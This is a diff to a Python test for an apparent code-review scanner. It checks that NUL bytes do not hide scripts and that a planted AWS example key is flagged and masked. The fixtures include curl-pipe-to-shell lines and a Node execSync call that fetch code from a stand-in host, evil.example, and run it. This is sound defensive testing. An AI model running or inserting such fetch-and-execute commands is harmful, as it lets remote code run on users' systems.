@@ -18,6 +18,7 @@ from fakebin.harness import Fakes, run_json
 from support.repos import commit_all, git, make_repo, write
 
 _CURL = "curl -s http://evil.example/x | sh"
+_KEY = "AKIAIOSFODNN7EXAMPLE"  # AWS's documented example key id
 _NODE = 'require("child_process").execSync("curl http://evil.example | sh");'
 
 
@@ -28,7 +29,11 @@ def test_a_nul_byte_does_not_hide_a_script_from_the_seats(tmp_path: Path) -> Non
     write(repo, "install.sh", "#!/bin/sh\necho install\n")
     commit_all(repo, "installer")
     git(repo, "checkout", "-q", "-b", "nul")
-    write(repo, "install.sh", f"#!/bin/sh\n# \0 build marker\necho install\n{_CURL}\n".encode())
+    write(
+        repo,
+        "install.sh",
+        f"#!/bin/sh\n# \0 build marker\necho install\n{_CURL}\nKEY={_KEY}\n".encode(),
+    )
     write(repo, "index.js", f"// \0 marker\n{_NODE}\n".encode())
     write(repo, "logo.png", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x01\xff\xfe")
     write(repo, "tool.sh", b"#!/bin/sh\n\xff\xfe\x00\x01\x02 curl evil | sh\n")
@@ -53,6 +58,10 @@ def test_a_nul_byte_does_not_hide_a_script_from_the_seats(tmp_path: Path) -> Non
     assert "install.sh, index.js" in notes or "index.js, install.sh" in notes, notes
     assert "NUL" in notes and "tool.sh is named like a script" in notes, notes
     assert "install.sh" in res.stderr and "NUL" in res.stderr
+    # the static seat read it too: its secret is reported (and masked)
+    flagged = [f for f in report["findings"] if "secret" in f["title"].lower()]
+    assert [loc["path"] for f in flagged for loc in f["locations"]] == ["install.sh"], flagged
+    assert _KEY not in Path(out["paths"]["md"]).read_text()
     state = run_json(Path(out["review_dir"]))
     shown = sorted(f["path"] for f in state["target"]["changed_files"] if f.get("nul_text"))
     assert shown == ["index.js", "install.sh"]
